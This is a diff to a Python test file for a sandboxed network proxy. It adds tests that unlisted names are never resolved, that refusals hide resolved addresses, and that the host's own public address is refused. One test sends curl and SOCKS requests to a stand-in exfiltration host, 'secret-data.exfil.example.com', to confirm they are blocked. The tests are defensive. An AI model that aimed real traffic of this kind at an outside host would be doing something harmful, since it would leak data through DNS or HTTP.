@@ -2,9 +2,12 @@
 httpx, urllib, curl (HTTP and SOCKS), pip and raw SOCKS5, against servers on 127.0.0.1 that
 the tests start. 127.0.0.1 is reachable only when a policy names it, so `true` shows the
 refusals, with their sentence, on traffic to 127.0.0.1 only; other ranges are the decision's
-(test_network_rules.py). What a sandbox hands over on the unix socket: a TCP socket is served,
-anything else is closed with no fd left in the gateway; a handed socket made blocking by a copy
-kept in the sandbox never stops the proxy; no more than MAX_CONNECTIONS live at once."""
+(test_network_rules.py). The host's own public address is refused in a network namespace of the
+test's own, which has only a loopback with that address on it; a name a list does not name is
+never resolved, and no refusal tells what a name resolved to. What a sandbox hands over on the
+unix socket: a TCP socket is served, anything else is closed with no fd left in the gateway; a
+handed socket made blocking by a copy kept in the sandbox never stops the proxy; no more than
+MAX_CONNECTIONS live at once."""
 
 from __future__ import annotations
 
@@ -14,6 +17,7 @@ import contextlib
 import hashlib
 import http.server
 import os
+import shutil
 import socket
 import ssl
 import stat
@@ -273,7 +277,7 @@ async def test_under_true_loopback_is_refused_with_the_sentence(
 
 
 async def test_socks5_by_address_and_by_name_relays_and_half_closes(place: Path, echo: int) -> None:
-    async with proxied(place, parse_network(["127.0.0.1"])) as (proxy, bridge):
+    async with proxied(place, parse_network(["127.0.0.1", "localhost"])) as (proxy, bridge):
         for kind, address in ((1, socket.inet_aton("127.0.0.1")), (3, b"\x09localhost")):
             code, (reader, writer) = await socks_connect(bridge, kind, address, echo)
             assert code == 0x00
@@ -339,7 +343,7 @@ async def test_the_address_checked_is_the_address_connected(place: Path, echo: i
             raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
         return [(socket.AF_INET, ("10.0.0.5", port)), (socket.AF_INET, ("127.0.0.1", port))]
 
-    policy = parse_network(["127.0.0.1", "two.example"])
+    policy = parse_network(["127.0.0.1", "two.example", "nowhere.invalid"])
     async with proxied(place, policy, resolver=resolver) as (proxy, bridge):
         code, (reader, writer) = await socks_connect(bridge, 3, b"\x0btwo.example", echo)
         assert code == 0x00  # 10.0.0.5 refused (a name reaches public addresses), 127.0.0.1 named
@@ -355,6 +359,88 @@ async def test_the_address_checked_is_the_address_connected(place: Path, echo: i
         )
         assert proxy.refusals_since(0) == []  # the private address was skipped, not refused
     assert asked == ["two.example", "nowhere.invalid", "nowhere.invalid"]
+
+
+async def test_under_a_list_a_name_it_does_not_name_is_never_resolved(
+    place: Path, echo: int
+) -> None:
+    asked: list[str] = []
+
+    async def resolver(host: str, port: int) -> list[tuple[int, tuple[Any, ...]]]:
+        asked.append(host)
+        return [(socket.AF_INET, ("10.0.0.5", port))]
+
+    policy = parse_network(["pypi.org", "127.0.0.1"])
+    secret = "secret-data.exfil.example.com"
+    async with proxied(place, policy, resolver=resolver) as (proxy, bridge):
+        via = f"http://127.0.0.1:{bridge}"
+        _, _, err = await curl("-v", "-x", via, f"http://{secret}/")
+        sentence = f"{secret} is not named by profile 'mine', which names pypi.org, 127.0.0.1"
+        assert f"< HTTP/1.1 403 {sentence}" in err
+        code, _ = await socks_connect(bridge, 3, bytes([len(secret)]) + secret.encode(), echo)
+        assert code == 0x02  # connection not allowed by ruleset
+        # A name it names is resolved; what it resolved to is refused, and never told.
+        _, _, err = await curl("-v", "-x", via, "http://pypi.org/")
+        said = (
+            "pypi.org resolves to a private address; profile 'mine' names pypi.org, but a name "
+            "reaches only public addresses of other hosts: name the address to reach it"
+        )
+        assert f"< HTTP/1.1 403 {said}" in err and "10.0.0.5" not in err
+        refusals = proxy.refusals_since(0)
+    assert asked == ["pypi.org"]  # the secret's name never went to a resolver
+    assert [(r.destination, r.address) for r in refusals] == [
+        (f"{secret}:80", None),
+        (f"{secret}:{echo}", None),
+        ("pypi.org:80", None),
+    ]
+
+
+# Run in a network namespace of its own, whose loopback also holds a public address, as a host's
+# interface would: the proxy under `true`, with its own look at the host's addresses, is asked
+# for a service listening on every address, by that address and by a name resolving to it.
+OWN_ADDRESS = "1.2.3.4"
+IN_NAMESPACE = """
+import asyncio, socket, sys
+from loomgate.gateway.sandbox.network.network_rules import parse_network
+from loomgate.gateway.sandbox.network.proxy import KernelProxy
+
+async def resolver(host, port):
+    return [(socket.AF_INET, (sys.argv[1], port))]
+
+async def main():
+    with socket.create_server(("0.0.0.0", 0)) as service:
+        port = service.getsockname()[1]
+        proxy = KernelProxy(parse_network(True), "workspace", resolver=resolver)
+        via = await proxy.start_tcp()
+        try:
+            for host in (sys.argv[1], "box.example"):
+                reader, writer = await asyncio.open_connection("127.0.0.1", via)
+                writer.write(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
+                print((await reader.readline()).decode().strip())
+                writer.close()
+        finally:
+            await proxy.close()
+
+asyncio.run(main())
+"""
+
+
+def test_the_hosts_own_public_address_is_refused() -> None:
+    unshare, ip = shutil.which("unshare"), shutil.which("ip")
+    if unshare is None or ip is None:
+        pytest.skip("unshare(1) and ip(8) make the namespace; one is missing")
+    setup = f'{ip} link set lo up && {ip} addr add "$2"/32 dev lo && exec "$0" -c "$1" "$2"'
+    command = [unshare, "-rn", "sh", "-c", setup, sys.executable, IN_NAMESPACE, OWN_ADDRESS]
+    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
+    if done.returncode != 0 and "unshare failed" in done.stderr:
+        pytest.skip(f"no network namespace here: {done.stderr.strip()}")
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.splitlines() == [
+        f"HTTP/1.1 403 {OWN_ADDRESS} is an address of this host, which profile 'workspace' does "
+        "not name",
+        "HTTP/1.1 403 box.example resolves to an address of this host, which profile 'workspace' "
+        "does not name",
+    ]
 
 
 async def test_a_closed_port_and_bad_requests_get_a_sentence(place: Path) -> None:
